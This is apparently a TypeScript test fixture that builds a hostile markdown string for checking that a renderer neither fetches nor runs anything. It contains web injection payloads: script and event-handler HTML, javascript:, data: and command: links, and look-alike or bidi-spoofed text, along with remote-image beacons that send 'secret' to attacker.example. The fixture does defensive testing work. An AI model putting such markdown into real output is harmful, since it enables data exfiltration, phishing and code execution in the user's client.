/** Markdown that tries everything a careless renderer would fall for. Nothing of it may be fetched or run. */
export function hostileMarkdown(): string {
  const bell = "https://attacker.example";
  return [
    "# A hostile answer",
    "Remote images, inline and by reference:",
    `![pixel](${bell}/inline.png?d=secret) ![ref][r] <img src="${bell}/html.png" onerror="window.hostile=1">`,
    `[r]: ${bell}/reference.png "title"`,
    "Raw HTML:",
    `<script>window.hostile = 1; fetch("${bell}/script")</script>`,
    `<iframe src="${bell}/frame"></iframe><svg onload="window.hostile=1"><image href="${bell}/svg.png"/></svg>`,
    `<link rel="stylesheet" href="${bell}/style.css"><style>body{background:url(${bell}/css.png)}</style>`,
    `<form action="${bell}/form"><input autofocus onfocus="window.hostile=1"></form><base href="${bell}/">`,
    `<meta http-equiv="refresh" content="0;url=${bell}/meta">`,
    "Links:",
    "- [run a command](command:workbench.action.terminal.new)",
    "- [run it with arguments](command:vscode.open?%5B%22https%3A%2F%2Fattacker.example%22%5D)",
    "- [script](javascript:window.hostile=1) [mixed case](JaVaScRiPt:window.hostile=1) [tab](java\tscript:window.hostile=1)",
    "- [data](data:text/html,<script>window.hostile=1</script>) [vbscript](vbscript:msgbox)",
    "- [file](file:///etc/passwd) [app](vscode://publisher.extension/steal)",
    `- [https://bank.example](${bell}/phish) [user info](https://bank.example@attacker.example/) <${bell}/auto>`,
    "- [look-alike](https://аpple.example/) \u202Etxt.exe\u202C and hidden\u{E0041}\u{E0042}\u{E007F} tags\u200B",
    `\`\`\`html\n<script>window.hostile = 1</script>\n<img src="${bell}/fenced.png">\n\`\`\``,
    '```js" onload="window.hostile=1\nalert(1)\n```',
    "Entities: &lt;script&gt; &#106;avascript:alert(1)",
    "The end.",
  ].join("\n\n");
}
